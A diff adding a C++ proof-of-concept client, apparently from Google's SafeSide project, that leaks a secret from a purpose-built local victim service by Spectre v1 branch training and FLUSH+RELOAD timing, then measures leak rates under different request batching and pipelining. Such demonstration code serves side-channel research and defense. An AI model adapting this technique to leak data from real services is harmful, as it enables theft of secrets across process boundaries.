@@ -0,0 +1,390 @@
+/*
+ * Copyright 2020 Google LLC
+ *
+ * Licensed under both the 3-Clause BSD License and the GPLv2, found in the
+ * LICENSE and LICENSE.GPL-2.0 files, respectively, in the root directory.
+ *
+ * SPDX-License-Identifier: BSD-3-Clause OR GPL-2.0
+ */
+
+/**
+ * Spectre v1 against a victim service in another process, driven only through
+ * requests (in the spirit of NetSpectre, but over a local socket). The victim,
+ * spectre_v1_pht_service_victim, looks up offsets from each request behind a
+ * bounds check, just like spectre_v1_pht_sa. This client:
+ *   - trains the bounds check by requesting in-bounds offsets,
+ *   - requests the out-of-bounds offset of a secret byte right after,
+ *   - and observes the victim's speculative access with FLUSH+RELOAD on an
+ *     oracle mapping that both processes share.
+ *
+ * A round sends the same stream of offsets every time -- the training offsets
+ * followed by the attack offset -- but packaged differently: `batch` offsets
+ * per request, with up to `pipeline` requests in flight before waiting for a
+ * response. The client leaks the victim's secret for each combination and
+ * reports how much each request leaks, which shows how much batching and
+ * pipelining matter for the exposure of a real service.
+ *
+ * Usage:
+ *     spectre_v1_pht_service [--socket=<path>] [--batch=<n>[,<n>...]]
+ *                            [--pipeline=<n>[,<n>...]] [--training=<n>]
+ *
+ * --socket    Victim service to attack. By default the client starts
+ *             spectre_v1_pht_service_victim from its own directory, with its
+ *             socket in a new private directory under /tmp.
+ * --batch     Offsets per request. Defaults to 1,16,256.
+ * --pipeline  Requests in flight. Defaults to 1,16.
+ * --training  In-bounds offsets before each attack offset. Defaults to 255.
+ **/
+
+#include "compiler_specifics.h"
+
+#if !SAFESIDE_LINUX
+#  error Unsupported OS. Linux required.
+#endif
+
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/mman.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <cctype>
+#include <cerrno>
+#include <chrono>
+#include <cstdint>
+#include <cstdlib>
+#include <cstring>
+#include <iomanip>
+#include <iostream>
+#include <memory>
+#include <sstream>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "asm/measurereadlatency.h"
+#include "cpu_isolation.h"
+#include "instr.h"
+#include "reliable_leak.h"
+#include "spectre_v1_pht_service.h"
+#include "timing_array.h"
+
+namespace {
+
+// Gives up on a byte after this many rounds, e.g. if speculation is mitigated.
+constexpr int kMaxRoundsPerByte = 2000;
+
+// Limits for the flags. Every round sends the training offsets anew, so more
+// than this would take forever; more requests in flight than this would only
+// queue up in the socket.
+constexpr size_t kMaxTraining = 1 << 16;
+constexpr size_t kMaxPipeline = 1024;
+
+class VictimClient {
+ public:
+  VictimClient(int connection, const char *oracle,
+               uint64_t cached_read_latency_threshold)
+      : connection_(connection),
+        oracle_(oracle),
+        threshold_(cached_read_latency_threshold),
+        request_(new VictimRequest) {}
+
+  // Runs one round for the secret byte at `offset` and returns the first
+  // value whose oracle element came from the cache, or -1.
+  int Observe(size_t offset, size_t training, size_t batch,
+              size_t pipeline) {
+    for (int value = 0; value < 256; ++value) {
+      FlushDataCacheLineNoBarrier(oracle_ + OracleOffset(value));
+    }
+    MemoryAndSpeculationBarrier();
+
+    // In-bounds offsets all read kVictimPublicByte, so vary them freely.
+    std::vector<uint32_t> stream;
+    for (size_t i = 0; i < training; ++i) {
+      stream.push_back(i % kVictimPublicSize);
+    }
+    stream.push_back(kVictimPublicSize + offset);
+
+    size_t sent = 0, in_flight = 0;
+    while (sent < stream.size() || in_flight > 0) {
+      if (sent < stream.size() && in_flight < pipeline) {
+        size_t count = std::min(batch, stream.size() - sent);
+        request_->count = count;
+        std::copy(stream.begin() + sent, stream.begin() + sent + count,
+                  request_->offsets);
+        size_t bytes = sizeof(request_->count) + count * sizeof(uint32_t);
+        if (send(connection_, request_.get(), bytes, 0) !=
+            static_cast<ssize_t>(bytes)) {
+          std::cerr << "Lost the victim service" << std::endl;
+          exit(EXIT_FAILURE);
+        }
+        sent += count;
+        ++in_flight;
+        ++requests_;
+      } else {
+        VictimResponse response;
+        if (recv(connection_, &response, sizeof(response), 0) !=
+            sizeof(response)) {
+          std::cerr << "Lost the victim service" << std::endl;
+          exit(EXIT_FAILURE);
+        }
+        --in_flight;
+      }
+    }
+
+    // Everything but the public byte's element should be uncached now, unless
+    // the victim read the secret byte speculatively.
+    for (int i = 1; i < 256; ++i) {
+      int value = (static_cast<unsigned char>(kVictimPublicByte) + i) & 0xFF;
+      if (MeasureReadLatency(oracle_ + OracleOffset(value)) <= threshold_) {
+        return value;
+      }
+    }
+    return -1;
+  }
+
+  long requests() const { return requests_; }
+
+ private:
+  int connection_;
+  const char *oracle_;
+  uint64_t threshold_;
+  std::unique_ptr<VictimRequest> request_;
+  long requests_ = 0;
+};
+
+// Starts the victim service next to our own executable. Returns its pid.
+pid_t StartVictim(const std::string &socket_path) {
+  char self[4096];
+  ssize_t length = readlink("/proc/self/exe", self, sizeof(self) - 1);
+  if (length <= 0) {
+    return -1;
+  }
+  self[length] = '\0';
+  std::string victim = self;
+  victim = victim.substr(0, victim.rfind('/') + 1) +
+           "spectre_v1_pht_service_victim";
+
+  pid_t pid = fork();
+  if (pid == 0) {
+    execl(victim.c_str(), victim.c_str(), socket_path.c_str(), nullptr);
+    std::cerr << "Cannot start " << victim << std::endl;
+    _exit(EXIT_FAILURE);
+  }
+  return pid;
+}
+
+// Removes what our own victim created in `directory`.
+void RemoveVictimFiles(const std::string &directory,
+                       const std::string &socket_path) {
+  unlink(socket_path.c_str());
+  unlink(OraclePath(socket_path).c_str());
+  rmdir(directory.c_str());
+}
+
+// Connects to the victim, retrying for a while in case it's still starting.
+int Connect(const std::string &socket_path) {
+  sockaddr_un address = {};
+  address.sun_family = AF_UNIX;
+  strncpy(address.sun_path, socket_path.c_str(), sizeof(address.sun_path) - 1);
+
+  for (int attempt = 0; attempt < 100; ++attempt) {
+    int connection = socket(AF_UNIX, SOCK_SEQPACKET, 0);
+    if (connect(connection, reinterpret_cast<sockaddr *>(&address),
+                sizeof(address)) == 0) {
+      return connection;
+    }
+    close(connection);
+    std::this_thread::sleep_for(std::chrono::milliseconds(50));
+  }
+  return -1;
+}
+
+const char *MapOracle(const std::string &path) {
+  int fd = open(path.c_str(), O_RDONLY);
+  if (fd == -1) {
+    return nullptr;
+  }
+  void *oracle = mmap(nullptr, kOracleBytes, PROT_READ, MAP_SHARED, fd, 0);
+  close(fd);
+  return oracle == MAP_FAILED ? nullptr : static_cast<const char *>(oracle);
+}
+
+// Parses a decimal count of at most `max`. strtoul alone would accept a sign
+// and wrap negative values around.
+bool ParseCount(const std::string &value, size_t max, size_t *count) {
+  if (value.empty() || !isdigit(static_cast<unsigned char>(value[0]))) {
+    return false;
+  }
+  char *end;
+  errno = 0;
+  unsigned long parsed = strtoul(value.c_str(), &end, 10);
+  if (errno != 0 || *end != '\0' || parsed > max) {
+    return false;
+  }
+  *count = parsed;
+  return true;
+}
+
+// Parses a comma-separated list of counts between 1 and `max`.
+bool ParseList(const std::string &value, size_t max,
+               std::vector<size_t> *list) {
+  list->clear();
+  std::stringstream items(value);
+  std::string item;
+  while (std::getline(items, item, ',')) {
+    size_t count;
+    if (!ParseCount(item, max, &count) || count == 0) {
+      return false;
+    }
+    list->push_back(count);
+  }
+  return !list->empty();
+}
+
+// Returns the value of `--name=value` if `arg` is that flag.
+bool FlagValue(const std::string &arg, const std::string &name,
+               std::string *value) {
+  std::string prefix = "--" + name + "=";
+  if (arg.compare(0, prefix.size(), prefix) != 0) {
+    return false;
+  }
+  *value = arg.substr(prefix.size());
+  return true;
+}
+
+}  // namespace
+
+int main(int argc, char *argv[]) {
+  std::string socket_path;
+  std::vector<size_t> batches = {1, 16, 256};
+  std::vector<size_t> pipelines = {1, 16};
+  size_t training = 255;
+
+  for (int i = 1; i < argc; ++i) {
+    std::string arg = argv[i], value;
+    if (FlagValue(arg, "socket", &value)) {
+      socket_path = value;
+    } else if (FlagValue(arg, "batch", &value)) {
+      if (!ParseList(value, kMaxBatchSize, &batches)) {
+        std::cerr << "--batch must be between 1 and " << kMaxBatchSize
+                  << std::endl;
+        return EXIT_FAILURE;
+      }
+    } else if (FlagValue(arg, "pipeline", &value)) {
+      if (!ParseList(value, kMaxPipeline, &pipelines)) {
+        std::cerr << "--pipeline must be between 1 and " << kMaxPipeline
+                  << std::endl;
+        return EXIT_FAILURE;
+      }
+    } else if (FlagValue(arg, "training", &value)) {
+      if (!ParseCount(value, kMaxTraining, &training)) {
+        std::cerr << "--training must be between 0 and " << kMaxTraining
+                  << std::endl;
+        return EXIT_FAILURE;
+      }
+    } else {
+      std::cerr << "Unknown argument " << arg << std::endl;
+      return EXIT_FAILURE;
+    }
+  }
+
+  // Pin before starting the victim, so it inherits the CPU and both sides
+  // share the whole cache hierarchy.
+  CpuIsolation isolation;
+  isolation.PrintReport(std::cout);
+
+  // Our own victim's socket and oracle go into a fresh private directory, so
+  // nobody else can plant anything at their paths.
+  pid_t victim = -1;
+  std::string directory;
+  if (socket_path.empty()) {
+    char directory_template[] = "/tmp/safeside_victim_XXXXXX";
+    if (mkdtemp(directory_template) == nullptr) {
+      std::cerr << "Cannot create a directory for the victim service"
+                << std::endl;
+      return EXIT_FAILURE;
+    }
+    directory = directory_template;
+    socket_path = directory + "/socket";
+    victim = StartVictim(socket_path);
+  }
+  int connection = Connect(socket_path);
+  const char *oracle = MapOracle(OraclePath(socket_path));
+  if (connection == -1 || oracle == nullptr) {
+    std::cerr << "Cannot reach the victim service at " << socket_path
+              << std::endl;
+    if (victim > 0) {
+      kill(victim, SIGTERM);
+      waitpid(victim, nullptr, 0);
+      RemoveVictimFiles(directory, socket_path);
+    }
+    return EXIT_FAILURE;
+  }
+
+  // The oracle is ordinary memory, so TimingArray's threshold applies to it.
+  uint64_t threshold;
+  {
+    TimingArray calibrate;
+    threshold = calibrate.cached_read_latency_threshold();
+  }
+  VictimClient client(connection, oracle, threshold);
+
+  std::cout << std::setw(8) << "batch" << std::setw(10) << "pipeline"
+            << std::setw(10) << "req/round" << "  " << std::left
+            << std::setw(18) << "leaked" << std::right << std::setw(10)
+            << "bytes/s" << std::setw(10) << "req/byte" << std::setw(10)
+            << "bits/req" << std::setw(8) << "errors" << std::endl;
+
+  const size_t secret_size = strlen(kVictimSecret);
+  for (size_t batch : batches) {
+    for (size_t pipeline : pipelines) {
+      long requests_before = client.requests();
+      auto start = std::chrono::steady_clock::now();
+
+      ReliableLeakOptions options;
+      options.max_rounds_per_byte = kMaxRoundsPerByte;
+      std::vector<LeakedByte> leaked = ReliableLeak(
+          secret_size,
+          [&](size_t offset) {
+            return client.Observe(offset, training, batch, pipeline);
+          },
+          options);
+
+      std::chrono::duration<double> elapsed =
+          std::chrono::steady_clock::now() - start;
+      long requests = client.requests() - requests_before;
+
+      std::string text;
+      int errors = 0;
+      for (size_t i = 0; i < secret_size; ++i) {
+        bool printable = leaked[i].value >= 0x20 && leaked[i].value < 0x7F;
+        text += printable ? static_cast<char>(leaked[i].value) : '?';
+        if (leaked[i].value != kVictimSecret[i]) {
+          ++errors;
+        }
+      }
+      int correct = secret_size - errors;
+
+      std::cout << std::setw(8) << batch << std::setw(10) << pipeline
+                << std::setw(10) << (training + batch) / batch << "  "
+                << std::left << std::setw(18) << text << std::right
+                << std::fixed << std::setprecision(1) << std::setw(10)
+                << correct / elapsed.count() << std::setw(10)
+                << static_cast<double>(requests) / secret_size
+                << std::setprecision(4) << std::setw(10)
+                << 8.0 * correct / requests << std::setw(8) << errors
+                << std::endl;
+    }
+  }
+
+  close(connection);
+  if (victim > 0) {
+    kill(victim, SIGTERM);
+    waitpid(victim, nullptr, 0);
+    RemoveVictimFiles(directory, socket_path);
+  }
+}